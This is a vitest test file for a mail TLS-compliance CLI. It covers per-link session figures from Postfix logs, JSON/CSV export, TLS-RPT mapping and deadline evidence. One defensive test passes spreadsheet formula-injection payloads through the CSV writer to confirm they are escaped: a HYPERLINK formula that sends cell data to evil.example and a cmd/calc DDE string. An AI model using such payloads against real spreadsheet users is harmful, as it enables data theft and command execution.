/** Per-link figures from ingested logs, their document and CSV, and art. 4.4 from evidence. */
import { mkdtempSync, readFileSync, rmSync, utimesSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";

/** The fixture spans 31 Dec → 1 Jan: its syslog years come from the file's mtime, pinned here. */
const written = new Date("2027-01-02T00:00:00Z");
const writeLog = (path: string, text: string) => {
  writeFileSync(path, text);
  utimesSync(path, written, written);
};

import { links } from "../../../src/cli/links-command.js";
import { art44Evidence } from "../../../src/indicators/links/art44-evidence.js";
import type { LinkRow } from "../../../src/indicators/links/link-figures.js";
import { tlsRptRows } from "../../../src/indicators/links/link-figures.js";
import {
  linksCsv,
  linksDocument,
  linksDocumentSchema,
  linksJsonSchema,
} from "../../../src/indicators/links/links-document.js";
import { mxMatches, type PartyDirectory } from "../../../src/indicators/links/parties.js";
import type { Art44Row } from "../../../src/policy/generate.js";
import { cli, usageError } from "../../support/cli.js";

const fixture = readFileSync(new URL("../../fixtures/logs/postfix-mixed.txt", import.meta.url), "utf8");
let dir: string;
let db: string;

beforeEach(async () => {
  dir = mkdtempSync(join(tmpdir(), "mailcharter-links-"));
  db = join(dir, "registry.sqlite");
  for (const [name, adhesion, domain] of [
    ["Alpha", "2026-01-01", "alpha.example=mx1.alpha.example"],
    ["Peer", "2026-06-01", "peer.example=mx.peer.example"],
    ["Strict", "2026-06-01", "strict.example=*.strict.example"],
  ])
    expect(
      (
        await cli(
          "registry",
          "add",
          "--db",
          db,
          "--name",
          name as string,
          "--contact",
          "pm@x.example",
          "--adhesion",
          adhesion as string,
          "--domain",
          domain as string,
        )
      ).code,
    ).toBe(0);
  writeLog(join(dir, "mail.log"), fixture);
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

describe("indicators links", () => {
  it("figures per day and pair, JSON (with its schema) and CSV", async () => {
    expect(
      (
        await cli(
          "indicators",
          "ingest-log",
          "--format",
          "postfix",
          "--org",
          "Alpha",
          "--db",
          db,
          join(dir, "mail.log"),
        )
      ).code,
    ).toBe(0);
    const out = await cli(
      "indicators",
      "links",
      "--from",
      "2026-12-31",
      "--to",
      "2027-01-01",
      "--db",
      db,
      "--json",
    );
    expect(out.code, out.err).toBe(0);
    const doc = linksDocumentSchema.parse(JSON.parse(out.out));
    const alphaPeer = doc.links.find(
      (l) => l.sender.name === "Alpha" && l.receiver.name === "Peer" && l.source === "sender-log",
    );
    expect(alphaPeer).toMatchObject({
      day: "2027-01-01",
      sessions: 4,
      classes: { verified: 3, trusted: 0, untrusted: 0, anonymous: 0, none: 1 },
      outcomes: { sent: 4 },
      versions: { "TLSv1.3": 3 },
      verifiedShare: 0.75,
    });
    // MX pattern *.strict.example maps mx.strict.example's deferral to Strict.
    expect(doc.links.find((l) => l.receiver.name === "Strict")).toMatchObject({
      failures: { "starttls-not-supported": 1 },
      classes: { none: 1 },
    });
    // A domain that is no signatory's stays a domain.
    expect(doc.links.find((l) => l.receiver.name === "bad.example")?.receiver.signatory).toBe(false);
    // Inbound: Peer's MX connected to Alpha in clear.
    expect(doc.links.find((l) => l.sender.name === "Peer" && l.source === "receiver-log")?.classes.none).toBe(
      1,
    );
    const csv = await cli(
      "indicators",
      "links",
      "--from",
      "2026-12-31",
      "--to",
      "2027-01-01",
      "--db",
      db,
      "--csv",
    );
    const lines = csv.out.split("\r\n");
    expect(lines[0]).toMatch(
      /^day,sender,receiver,source,sessions,verified,trusted,untrusted,anonymous,none,verified_share,starttls-not-supported,/,
    );
    expect(lines).toContain(
      "2027-01-01,Alpha,Peer,sender-log,4,3,0,0,0,1,0.7500,0,0,0,0,0,0,0,0,0,0,0,TLSv1.3=3,TLS_AES_128_GCM_SHA256=1;TLS_AES_256_GCM_SHA384=2,0",
    );
    const {
      $id: _i,
      title: _t,
      ...schema
    } = JSON.parse(
      readFileSync(
        join(import.meta.dirname, "..", "..", "..", "schema", "indicators-links.schema.json"),
        "utf8",
      ),
    );
    expect(schema).toEqual(linksJsonSchema());
  });

  it("outside the period, nothing; bad dates are clear errors", async () => {
    await cli(
      "indicators",
      "ingest-log",
      "--format",
      "postfix",
      "--org",
      "Alpha",
      "--db",
      db,
      join(dir, "mail.log"),
    );
    const out = await cli(
      "indicators",
      "links",
      "--from",
      "2025-01-01",
      "--to",
      "2025-01-31",
      "--db",
      db,
      "--json",
    );
    expect(JSON.parse(out.out).links).toEqual([]);
    expect(
      usageError(await cli("indicators", "links", "--from", "2026-02-30x", "--to", "2026-03-01", "--db", db)),
    ).toMatch(/--from/);
    expect(
      usageError(await cli("indicators", "links", "--from", "2026-03-02", "--to", "2026-03-01", "--db", db)),
    ).toMatch(/after/);
  });

  it("policy table: configured and observed, side by side", async () => {
    await cli(
      "indicators",
      "ingest-log",
      "--format",
      "postfix",
      "--org",
      "Alpha",
      "--db",
      db,
      join(dir, "mail.log"),
    );
    const table = await cli("policy", "table", "--for", "Alpha", "--at", "2027-01-02", "--db", db);
    expect(table.code, table.err).toBe(0);
    // Peer: 3 of 4 sessions verified on 2027-01-01 (carol in clear): not verified, and the deadline
    // (2026-09-01) has passed: late, although the policy lists it.
    expect(table.out).toContain("| Peer | 2026-06-01 | 2026-09-01 | yes | 4 (3) | — | late | LATE |");
    expect(table.out).toContain("| Strict | 2026-06-01 | 2026-09-01 | yes | 1 (0) | — | late | LATE |");
  });
});

describe("indicators links without dates", () => {
  it("covers the last 30 days up to today (UTC), as the API does; --to alone moves the window", async () => {
    const chunks: string[] = [];
    const io = {
      out: { write: (t: string) => chunks.push(t) },
      err: { write: () => true },
      setExit: () => {},
    } as unknown as Parameters<typeof links>[1];
    expect(await links({ db, json: true }, io, new Date("2027-01-02T23:30:00Z"))).toBe(0);
    expect(JSON.parse(chunks.join(""))).toMatchObject({ from: "2026-12-04", to: "2027-01-02" });
    chunks.length = 0;
    await links({ db, json: true, to: "2026-03-01" }, io, new Date("2027-01-02T23:30:00Z"));
    expect(JSON.parse(chunks.join(""))).toMatchObject({ from: "2026-01-31", to: "2026-03-01" });
    expect(usageError(await cli("indicators", "links", "--db", db, "--from", "2999-01-01"))).toMatch(
      /--from 2999-01-01 is after --to/,
    );
  });
});

describe("indicators links as CSV", () => {
  const row = (sender: string): LinkRow => ({
    day: "2026-12-01",
    sender: { key: `d:${sender}`, organisationId: null, label: sender },
    receiver: { key: "o:2", organisationId: 2, label: "Beta, DSI" },
    source: "tlsrpt",
    sessions: 1,
    noTlsDecision: 0,
    classes: { verified: 1, trusted: 0, untrusted: 0, anonymous: 0, none: 0 },
    outcomes: { successful: 1 },
    failures: {},
    versions: {},
    suites: {},
    verifiedShare: 1,
  });
  const cells = (sender: string) =>
    (linksCsv(linksDocument("2026-12-01", "2026-12-01", [row(sender)])).split("\r\n")[1] ?? "").split(",");
  it("a name a spreadsheet would run as a formula is written as text; RFC 4180 quoting kept", () => {
    expect(cells('=HYPERLINK("https://evil.example/?"&A1)')[1]).toBe(
      '"\'=HYPERLINK(""https://evil.example/?""&A1)"',
    );
    expect(cells("+1+cmd|' /C calc'!A0")[1]).toBe("'+1+cmd|' /C calc'!A0");
    expect(cells("-2+3")[1]).toBe("'-2+3");
    expect(cells("@SUM(1)")[1]).toBe("'@SUM(1)");
    expect(cells("\t=1")[1]).toBe("'\t=1");
    expect(cells("Google Inc.")[1]).toBe("Google Inc.");
    expect(cells("Google Inc.").slice(2, 4)).toEqual(['"Beta', ' DSI"']);
  });
});

describe("art. 4.4 from evidence (pure)", () => {
  const base: Art44Row = {
    peer: "P",
    newerAdhesion: "2026-01-01",
    deadline: "2026-04-01",
    covered: true,
    state: "covered",
  };
  const ids = new Map([["P", 2]]);
  const row = (
    day: string,
    verified: number,
    none: number,
    source: LinkRow["source"] = "sender-log",
  ): LinkRow => ({
    day,
    sender: { key: "o:1", organisationId: 1, label: "S" },
    receiver: { key: "o:2", organisationId: 2, label: "P" },
    source,
    sessions: verified + none,
    noTlsDecision: 0,
    classes: { verified, trusted: 0, untrusted: 0, anonymous: 0, none },
    outcomes: {},
    failures: {},
    versions: {},
    suites: {},
    verifiedShare: verified / (verified + none),
  });
  it("verified since the day after the last unverified session, before the deadline", () => {
    const [e] = art44Evidence(
      [base],
      ids,
      [row("2026-02-01", 1, 1), row("2026-03-01", 5, 0), row("2026-05-01", 3, 0)],
      1,
      "2026-06-01",
    );
    expect(e).toMatchObject({
      verifiedSince: "2026-03-01",
      evidence: "verified",
      late: false,
      sessions: 10,
      verifiedSessions: 9,
    });
  });
  it("verified only after the deadline is late", () => {
    const [e] = art44Evidence(
      [base],
      ids,
      [row("2026-05-01", 1, 1), row("2026-05-02", 2, 0)],
      1,
      "2026-06-01",
    );
    expect(e).toMatchObject({ verifiedSince: "2026-05-02", evidence: "verified-late", late: true });
  });
  it("no evidence before the deadline; late after it; the receiver's log is not the sender's evidence", () => {
    expect(art44Evidence([base], ids, [], 1, "2026-03-01")[0]?.evidence).toBe("no-evidence");
    expect(
      art44Evidence([base], ids, [row("2026-02-01", 4, 0, "receiver-log")], 1, "2026-05-01")[0],
    ).toMatchObject({
      evidence: "late",
      late: true,
      sessions: 0,
    });
    expect(art44Evidence([base], ids, [row("2026-02-01", 0, 2)], 1, "2026-03-01")[0]?.evidence).toBe(
      "not-verified",
    );
  });
  it("TLS-RPT: successes under a policy are verified; without one, encrypted only", () => {
    const directory: PartyDirectory = {
      domains: new Map([["p.example", 2]]),
      mxPatterns: [],
      names: new Map([
        [1, "S"],
        [2, "P"],
      ]),
    };
    const rows = tlsRptRows(
      [
        {
          day: "2026-02-01",
          organization: "s",
          policyDomain: "p.example",
          policyType: "sts",
          successful: 7,
          failed: 1,
          failures: { "certificate-expired": 1 },
          reports: 1,
        },
        {
          day: "2026-02-01",
          organization: "s",
          policyDomain: "p.example",
          policyType: "no-policy-found",
          successful: 2,
          failed: 0,
          failures: {},
          reports: 1,
        },
        {
          day: "2026-02-01",
          organization: "google.com",
          policyDomain: "other.example",
          policyType: "sts",
          successful: 1,
          failed: 0,
          failures: {},
          reports: 1,
        },
      ],
      directory,
    );
    expect(rows[0]).toMatchObject({
      sender: { organisationId: 1 },
      receiver: { organisationId: 2 },
      sessions: 10,
      classes: { verified: 7, untrusted: 2, none: 1 },
      failures: { "certificate-expired": 1 },
    });
    expect(rows[1]).toMatchObject({ sender: { key: "d:google.com" }, receiver: { key: "d:other.example" } });
    expect(linksCsv(linksDocument("2026-02-01", "2026-02-01", rows)).split("\r\n")).toHaveLength(4);
  });
  it("MX patterns: one label for *, exact otherwise", () => {
    expect(mxMatches("*.example.org", "mx.example.org")).toBe(true);
    expect(mxMatches("*.example.org", "a.mx.example.org")).toBe(false);
    expect(mxMatches("*.example.org", "example.org")).toBe(false);
    expect(mxMatches("MX.example.org.", "mx.example.org")).toBe(true);
  });
});
